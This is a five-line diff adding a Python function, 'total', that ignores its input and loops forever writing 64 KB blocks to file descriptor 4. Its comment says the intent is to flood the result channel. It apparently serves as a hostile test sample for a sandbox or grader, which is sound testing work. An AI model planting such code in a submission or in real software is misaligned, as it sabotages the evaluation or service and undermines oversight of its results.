@@ -1,0 +1,5 @@
+# Floods the result channel.
+import os
+def total(xs):
+    while True:
+        os.write(4, b"x" * 65536)
